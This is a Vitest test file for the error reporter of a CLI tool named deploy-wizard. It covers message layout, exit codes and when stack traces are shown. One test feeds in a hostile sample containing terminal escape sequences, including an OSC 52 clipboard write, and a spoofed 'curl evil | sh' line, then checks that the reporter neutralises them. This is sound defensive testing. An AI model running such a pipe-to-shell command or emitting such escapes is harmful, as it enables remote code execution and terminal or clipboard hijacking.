import { describe, expect, it } from 'vitest';
import { reportError } from '../../src/cli/report-error.ts';
import { Bug, ToolError, UserError, UserErrors } from '../../src/errors/errors.ts';
import { exitCodes } from '../../src/errors/exit-codes.ts';

function report(error: unknown) {
  let text = '';
  const code = reportError(error, { write: (part) => (text += part) });
  return { code, text };
}

const place = { file: '/recipes/shop/recipe.yaml', line: 3, column: 5 };
const stack = /^\s+at .*:\d+:\d+/m;

describe('the last words', () => {
  it('on what the person can mend are what, why and what now, with the place first', () => {
    const error = new UserError('unknown key iamges', {
      place,
      why: 'recipes have images',
      next: ['Did you mean images?', 'deploy-wizard recipe schema'],
    });
    expect(report(error)).toEqual({
      code: 2,
      text: `error: /recipes/shop/recipe.yaml:3:5: unknown key iamges
  recipes have images
  next: Did you mean images?
  next: deploy-wizard recipe schema
`,
    });
  });

  it('on several mistakes name each', () => {
    const errors = [new UserError('one', { place, next: ['a'] }), new UserError('two', { why: 'b' })];
    expect(report(new UserErrors('2 answers are missing', errors, exitCodes.answerMissing))).toEqual({
      code: 3,
      text: `error: 2 answers are missing
  /recipes/shop/recipe.yaml:3:5: one
  next: a
  two
  b
`,
    });
  });

  it('on a program are its last lines, what was run and how it ended', () => {
    const lastLines = ['1', '2', '3', '4', '5', '6'];
    const details = {
      argv: ['kubectl', 'get', 'pods'],
      status: 1,
      lastLines,
      why: 'no route',
      next: ['check the network'],
    };
    expect(report(new ToolError('the cluster does not answer', details))).toEqual({
      code: 4,
      text: `error: the cluster does not answer: no route
  2
  3
  4
  5
  6
  ran: kubectl get pods (exit code 1)
  next: check the network
`,
    });
    expect(report(new ToolError('x', { argv: ['helm'], status: null, lastLines: [] })).text).toContain(
      'ran: helm (ended by a signal)',
    );
  });

  it.each(Object.entries(exitCodes))('end with the code of the error: %s', (_name, exitCode) => {
    expect(report(new UserError('x', { exitCode })).code).toBe(exitCode);
  });

  it('on an end from outside say which', () => {
    expect(report(new Error('interrupted'))).toEqual({ code: 130, text: 'Interrupted.\n' });
    expect(report('SIGTERM')).toEqual({ code: 143, text: 'Terminated.\n' });
  });

  it.each(['ENOSPC', 'EACCES', 'EROFS'])('on a file system that refuses (%s) are no stack', (code) => {
    const error = Object.assign(new Error(`${code}: it is so, open '/x'`), { code, syscall: 'open', path: '/x' });
    const { text, code: exit } = report(error);
    expect(exit).toBe(4);
    expect(text).toMatch(/^error: E.*\n {2}next: /);
    expect(text).not.toMatch(stack);
  });

  it('on a mistake of ours are its stack, and 70', () => {
    for (const error of [
      new Bug('never'),
      new TypeError('x is undefined'),
      Object.assign(new Error('odd'), { code: 'EACCES' }),
    ]) {
      const { code, text } = report(error);
      expect(code).toBe(70);
      expect(text).toMatch(/^A mistake in deploy-wizard: /);
      expect(text).toMatch(stack);
      expect(text).toContain('Please report it');
    }
    expect(report('thrown text').text).toContain('A mistake in deploy-wizard: thrown text');
    for (const odd of [undefined, null, 5, {}, Symbol('s')]) expect(report(odd).code).toBe(70);
  });

  it('hold no stack for what the person or a program did', () => {
    const errors = [
      new UserError('x'),
      new UserErrors('y', [new UserError('z')]),
      new ToolError('t', { argv: ['a'], status: 2, lastLines: ['l'] }),
    ];
    for (const error of errors) expect(report(error).text).not.toMatch(stack);
  });

  it("reach the terminal as text, and do not look like ours when they are another's", () => {
    const hostile = '\u001b[2Jgone\u001b]52;c;ZXZpbA==\u0007\nerror: other\n  next: curl evil | sh';
    const { text } = report(new UserError(hostile, { why: hostile, next: [hostile] }));
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(text.match(/^error: /gm)).toHaveLength(1);
    expect(text.match(/^ {2}next: /gm)).toHaveLength(1);
  });
});
